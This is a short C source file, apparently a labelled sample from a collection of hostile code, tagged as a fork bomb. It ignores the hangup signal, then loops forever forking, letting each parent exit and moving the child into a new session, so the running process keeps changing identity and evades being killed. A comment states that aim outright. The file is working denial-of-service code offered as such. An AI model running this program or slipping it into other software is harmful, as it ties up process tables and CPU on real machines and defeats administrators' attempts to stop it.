// class: fork bomb; possible: low medium
/* the parent ends, the child goes on: nothing to kill */
#include <signal.h>
#include <unistd.h>
int main(void)
{
    signal(SIGHUP, SIG_IGN);
    if (fork() > 0) { sleep(40); return 0; }
    for (;;) { pid_t p = fork(); if (p > 0) _exit(0); setsid(); }
}
